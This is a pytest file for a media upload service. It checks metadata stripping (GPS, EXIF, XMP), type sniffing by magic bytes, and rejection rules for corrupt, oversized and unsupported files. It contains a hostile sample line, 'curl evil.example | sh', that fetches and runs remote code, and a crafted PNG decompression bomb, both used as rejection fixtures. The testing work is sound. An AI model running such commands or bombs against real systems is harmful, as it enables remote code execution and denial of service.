"""The media domain: type by content, metadata stripping, and every rejection rule."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import ExifTags, Image

from services.media.schemas import ContentType, Rejection
from services.media.service import MediaRejected, clean_upload, sniff
from services.media.settings import s3_bucket_name

LIMITS = {"max_bytes": 10 * 1024 * 1024, "max_pixels": 40_000_000}


def gps_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 9"
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (55.0, 45.0, 21.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (37.0, 37.0, 4.0),
    }
    return exif


def jpeg_with_gps(size: tuple[int, int] = (64, 32), orientation: int = 1) -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", size, (200, 30, 30))
    image.save(out, "JPEG", exif=gps_exif(orientation), xmp=b"<x:xmpmeta>secret place</x:xmpmeta>")
    return out.getvalue()


def encoded(fmt: str, size: tuple[int, int] = (16, 16), mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, fmt, **options)
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A tiny PNG whose header promises a gigantic picture: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def rejected(raw: bytes, **limits: int) -> MediaRejected:
    with pytest.raises(MediaRejected) as caught:
        clean_upload(raw, **{**LIMITS, **limits})
    return caught.value


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (encoded("JPEG"), ContentType.JPEG),
        (encoded("PNG"), ContentType.PNG),
        (encoded("WEBP"), ContentType.WEBP),
        (b"%PDF-1.7\n...", ContentType.PDF),
        (b"GIF89a....", None),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", None),
        (b"#!/bin/sh\necho hi\n", None),
        (b"", None),
    ],
)
def test_sniff_decides_by_magic_bytes(raw: bytes, expected: ContentType | None) -> None:
    assert sniff(raw[:16]) == expected


def test_jpeg_loses_exif_gps_and_xmp() -> None:
    raw = jpeg_with_gps()
    with Image.open(io.BytesIO(raw)) as original:
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the fixture really carries GPS
        assert "xmp" in original.info

    clean = clean_upload(raw, **LIMITS)

    assert clean.content_type is ContentType.JPEG
    assert b"PhoneMaker" not in clean.data
    assert b"secret place" not in clean.data
    with Image.open(io.BytesIO(clean.data)) as stored:
        assert stored.format == "JPEG"
        assert len(stored.getexif()) == 0
        assert not stored.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert "exif" not in stored.info
        assert "xmp" not in stored.info
        assert stored.size == (64, 32)


def test_exif_orientation_is_applied_to_the_pixels() -> None:
    clean = clean_upload(jpeg_with_gps(size=(64, 32), orientation=6), **LIMITS)  # 6 = rotate 90° CW

    assert (clean.width, clean.height) == (32, 64)
    with Image.open(io.BytesIO(clean.data)) as stored:
        assert stored.size == (32, 64)
        assert ExifTags.Base.Orientation not in stored.getexif()


def test_png_text_and_exif_chunks_are_dropped_but_transparency_kept() -> None:
    from PIL.PngImagePlugin import PngInfo

    text = PngInfo()
    text.add_text("Comment", "taken at my home address")
    image = Image.new("RGBA", (8, 8), (0, 0, 0, 0))
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=text, exif=gps_exif())

    clean = clean_upload(out.getvalue(), **LIMITS)

    assert b"home address" not in clean.data
    assert b"PhoneMaker" not in clean.data
    with Image.open(io.BytesIO(clean.data)) as stored:
        assert stored.mode == "RGBA"
        assert stored.getpixel((0, 0)) == (0, 0, 0, 0)
        assert not stored.text
        assert "exif" not in stored.info


def test_webp_is_accepted_and_reencoded() -> None:
    clean = clean_upload(encoded("WEBP", size=(20, 10), exif=gps_exif()), **LIMITS)

    assert clean.content_type is ContentType.WEBP
    assert (clean.width, clean.height) == (20, 10)
    with Image.open(io.BytesIO(clean.data)) as stored:
        assert "exif" not in stored.info


def test_png_decompression_bomb_is_rejected_before_decoding() -> None:
    bomb = png_header_only(100_000, 100_000)
    assert len(bomb) < 200

    assert rejected(bomb).reason is Rejection.TOO_MANY_PIXELS


def test_image_over_the_configured_pixel_limit_is_rejected() -> None:
    raw = encoded("PNG", size=(3000, 3000), mode="1")  # 9 MP of nothing compresses to a few KB

    problem = rejected(raw, max_pixels=1_000_000)

    assert problem.reason is Rejection.TOO_MANY_PIXELS
    assert "3000x3000" in problem.detail
    assert "1000000" in problem.detail


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_truncated_image_is_rejected(fmt: str) -> None:
    out = io.BytesIO()
    Image.effect_noise((128, 128), 64).convert("RGB").save(out, fmt)
    raw = out.getvalue()

    assert rejected(raw[: len(raw) // 2]).reason is Rejection.CORRUPT


def test_magic_bytes_without_a_real_image_are_rejected() -> None:
    assert rejected(b"\xff\xd8\xff\xe0" + b"not really a jpeg" * 10).reason is Rejection.CORRUPT


def test_a_script_is_unsupported_whatever_its_name() -> None:
    problem = rejected(b"#!/bin/sh\ncurl evil.example | sh\n")  # e.g. uploaded as holiday.jpg

    assert problem.reason is Rejection.UNSUPPORTED_TYPE
    assert "content" in problem.detail


def test_zero_bytes_are_rejected() -> None:
    assert rejected(b"").reason is Rejection.EMPTY


def test_too_many_bytes_are_rejected() -> None:
    assert rejected(encoded("PNG"), max_bytes=10).reason is Rejection.TOO_LARGE


def test_pdf_is_kept_as_is_but_must_be_complete() -> None:
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

    clean = clean_upload(pdf, **LIMITS)

    assert clean.content_type is ContentType.PDF
    assert clean.data == pdf
    assert clean.width is None
    assert rejected(pdf[:20]).reason is Rejection.CORRUPT


@pytest.mark.parametrize(
    ("namespace", "expected"),
    [
        ("appeals", "appeals-appeals-media"),
        ("test-ab12cd34", "test-ab12cd34-appeals-media"),
        ("CI_Run.7", "ci-run-7-appeals-media"),
        ("xn--idn", "xn-idn-appeals-media"),
        ("sthree-x", "ns-sthree-x-appeals-media"),
    ],
)
def test_bucket_name_is_namespaced_and_valid(namespace: str, expected: str) -> None:
    assert s3_bucket_name(namespace, "appeals-media") == expected


def test_long_bucket_names_are_cut_but_stay_distinct() -> None:
    first = s3_bucket_name("a" * 80 + "1", "appeals-media")
    second = s3_bucket_name("a" * 80 + "2", "appeals-media")

    assert first != second
    assert all(3 <= len(name) <= 63 and name[0].isalnum() and name[-1].isalnum() for name in (first, second))
